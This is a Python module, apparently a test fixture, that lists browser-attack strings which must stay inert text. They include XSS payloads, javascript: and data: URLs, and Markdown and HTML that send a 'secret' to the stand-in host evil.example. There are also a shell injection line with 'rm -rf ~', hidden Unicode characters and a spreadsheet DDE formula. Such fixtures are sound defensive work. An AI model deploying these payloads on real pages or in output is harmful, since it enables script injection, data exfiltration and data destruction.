"""Texts with which pages were attacked in their readers' browsers: all of them have to stay text.

Kinds: elements, attributes that are broken out of, addresses that run, SVG and HTML as data,
Markdown that leads or fetches, what ends a script, JSON or template, and signs that turn or hide
text.
"""

SCRIPT = "<script>alert(1)</script>"
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=alert(1)><script>alert(1)</script></svg>"
HTML = "<!doctype html><html><body onload=alert(1)>"

CORPUS = (
    SCRIPT,
    SVG,
    HTML,
    "<img src=x onerror=alert(1)>",
    "\"'><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "</textarea></title></style></script><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/?q=secret)",
    "[x](https://evil.example/ 'title')",
    "<https://evil.example/?q=secret>",
    "[r]: https://evil.example/\n\n![r][r]",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div hx-get='/logout/' hx-trigger=load data-copy>x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '{"a": "</script><script>alert(1)</script>", "<img src=x>": [1]}',
    "{{ 7|add:7 }}{% debug %}",
    "'; rm -rf ~ #\n$(touch /tmp/x) `id` \\' \" !!",
    "\u202etxt.exe\u2066\u200b\u0085\u2028",
    "=cmd|' /C calc'!A0",
)
